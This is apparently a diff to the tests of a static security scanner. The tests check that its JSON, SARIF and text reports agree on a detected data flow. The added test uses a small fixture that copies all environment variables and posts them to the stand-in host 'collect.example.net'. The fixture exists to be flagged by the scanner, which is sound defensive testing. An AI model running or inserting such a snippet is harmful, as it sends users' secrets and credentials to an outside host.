@@ -72,7 +72,7 @@ def test_json_has_exactly_the_documented_shape() -> None:
     doc = json.loads(to_json(RESULTS, duration_s=0.5))
     assert set(doc) == {"results", "summary"}
     first = doc["results"][0]
-    assert set(first) == {"path", "verdict", "score", "findings", "error"}
+    assert set(first) == {"path", "verdict", "score", "reasons", "findings", "error"}
     assert (first["path"], first["verdict"], first["score"]) == ("pkg/bad.py", "block", 80)
     required = {"rule_id", "severity", "confidence", "line", "column", "message", "origin",
                 "suppressed"}  # fmt: skip
@@ -210,3 +210,43 @@ def test_identical_lines_get_distinct_fingerprints() -> None:
     assert len(hashes) == 2 and len(set(hashes)) == 2
     assert hashes[0].split(":")[0] == hashes[1].split(":")[0]
     assert [h.split(":")[1] for h in hashes] == ["1", "2"]
+
+
+FLOW_SOURCE = (
+    "import os\nimport requests\n\n"
+    "snapshot = dict(os.environ)\n"
+    "requests.post('https://collect.example.net/in', json=snapshot, timeout=5)\n"
+)
+
+
+def test_the_three_formats_agree_on_a_flow_and_its_columns(tmp_path: Path) -> None:
+    from airlock.analyzer.scan import scan
+
+    report = scan(FLOW_SOURCE, ruleset="default")
+    results = [(str(tmp_path / "exfil.py"), report)]
+    (finding,) = [f for f in report.findings if f.rule_id == "AIR-FLOW-001"]
+    assert [s.role for s in finding.flow] == ["source", "sink"]
+    assert (finding.flow[0].line, finding.flow[1].line) == (4, 5)
+
+    doc = json.loads(to_json(results))
+    (js,) = [f for f in doc["results"][0]["findings"] if f["rule_id"] == "AIR-FLOW-001"]
+    assert js["column"] == finding.column + 1  # 1-based, as in text and SARIF
+    assert [(s["role"], s["line"]) for s in js["flow"]] == [("source", 4), ("sink", 5)]
+    assert any("AIR-FLOW-001" in r["rule_ids"] for r in doc["results"][0]["reasons"])
+
+    sarif = json.loads(to_sarif(results, base_dir=tmp_path))
+    (res,) = [r for r in sarif["runs"][0]["results"] if r["ruleId"] == "AIR-FLOW-001"]
+    region = res["locations"][0]["physicalLocation"]["region"]
+    assert (region["startLine"], region["startColumn"]) == (js["line"], js["column"])
+    steps = res["codeFlows"][0]["threadFlows"][0]["locations"]
+    assert [s["location"]["physicalLocation"]["region"]["startLine"] for s in steps] == [4, 5]
+    assert res["relatedLocations"][0]["physicalLocation"]["region"]["startLine"] == 4
+
+    text = to_text(results)
+    assert f"exfil.py:5:{js['column']}  AIR-FLOW-001" in text
+    assert "flow: the whole environment (os.environ) (line 4) → requests.post (line 5)" in text
+
+
+def test_findings_without_a_flow_carry_none() -> None:
+    doc = json.loads(to_json(RESULTS))
+    assert all(f["flow"] == [] for f in doc["results"][0]["findings"])
